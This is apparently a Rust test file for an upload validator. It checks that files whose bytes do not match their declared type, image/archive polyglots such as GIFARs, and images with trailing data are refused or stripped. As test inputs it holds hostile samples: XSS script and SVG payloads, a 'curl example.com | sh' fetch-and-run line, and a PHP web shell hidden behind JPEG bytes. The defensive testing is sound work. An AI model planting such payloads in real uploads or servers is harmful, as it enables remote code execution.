//! Files that are not what was declared, or that are two things at once.

use shared_core::uploads::UnreadableFile::Damaged;

use super::fixtures::{gif, jpeg, pdf, png, webp, zip};
use super::setup::{View, accepted, assert_lie, assert_unreadable, contains, kept};

const IMAGES: [&str; 4] = ["image/jpeg", "image/png", "image/webp", "image/gif"];

#[test]
fn what_is_no_image_is_not_accepted_as_one() {
    let html = b"<!doctype html><script>alert(1)</script>".to_vec();
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec();
    let script = b"#!/bin/sh\ncurl example.com | sh\n".to_vec();
    let program = b"\x7fELF\x02\x01\x01\0".to_vec();
    for file in [html, svg, script, program, zip(b""), pdf(1), vec![0; 64], vec![0xff; 3]] {
        for declared in IMAGES {
            if !(declared == "image/jpeg" && file == [0xff; 3]) {
                assert_lie(declared, &file);
            }
        }
    }
}

#[test]
fn one_image_is_not_another() {
    let files = [jpeg(16, 16), png(16, 16), webp(16, 16), gif(16, 16, 1)];
    for (is, file) in IMAGES.into_iter().zip(&files) {
        for declared in IMAGES.into_iter().filter(|declared| *declared != is) {
            assert_lie(declared, file);
        }
        assert_lie("application/pdf", file);
        assert_lie("text/plain", file);
    }
}

#[test]
fn no_bytes_are_no_file() {
    for declared in ["image/jpeg", "image/png", "application/pdf", "text/plain"] {
        assert_lie(declared, b"");
    }
}

#[test]
fn an_image_that_is_an_archive_as_well_is_refused() {
    for (declared, image) in
        [("image/gif", gif(8, 8, 1)), ("image/jpeg", jpeg(8, 8)), ("image/png", png(8, 8))]
    {
        assert_eq!(accepted(declared, &image).forms.len(), 3);
        // A GIFAR: the applet behind the image.
        assert_lie(declared, &[&image[..], &zip(b"")].concat());
        assert_lie(declared, &[&image[..], &zip(b"a comment")].concat());
        assert_lie(declared, &[&image[..], &zip(b""), b"\n"].concat());
    }
}

#[test]
fn a_pdf_that_is_an_archive_as_well_is_refused() {
    assert_lie("application/pdf", &[pdf(1), zip(b"")].concat());
    // The end of the PDF is the comment of the archive.
    assert_lie("application/pdf", &[pdf(1), zip(b"\n%%EOF\n")].concat());
    // The PDF is the file that the archive stores, or its comment.
    assert_lie("application/pdf", &[zip(b""), pdf(1)].concat());
    assert_lie("application/pdf", &zip(&pdf(1)));
}

#[test]
fn an_archive_or_a_program_is_no_text() {
    assert_lie("text/plain", &zip(b""));
    assert_lie("application/json", b"\x7fELF\x02\x01\x01\0");
    assert_lie("text/csv", &[1, 2, 3, 4]);
}

#[test]
fn php_behind_the_first_bytes_of_a_jpeg_is_damaged() {
    assert_unreadable("image/jpeg", b"\xff\xd8\xff<?php system($_GET['c']); ?>", Damaged);
    assert_unreadable(
        "image/jpeg",
        b"\xff\xd8\xff\xe0\0\x10JFIF\0<?php echo 1; ?>\xff\xd9",
        Damaged,
    );
}

#[test]
fn what_follows_an_image_is_dropped() {
    // Phones append videos and depth maps, so this is no reason to refuse it.
    let payload = b"<?php system($_GET['c']); ?>";
    for (declared, image) in [
        ("image/jpeg", jpeg(24, 16)),
        ("image/png", png(24, 16)),
        ("image/webp", webp(24, 16)),
        ("image/gif", gif(24, 16, 1)),
    ] {
        for trailer in [&payload[..], b"\0", b"\n"] {
            let accepted = accepted(declared, &[&image[..], trailer].concat());
            assert_eq!(accepted.file.dimensions, Some((24, 16)), "{declared}");
            assert!(!contains(kept(&accepted, View).0, payload), "{declared}");
        }
    }
}
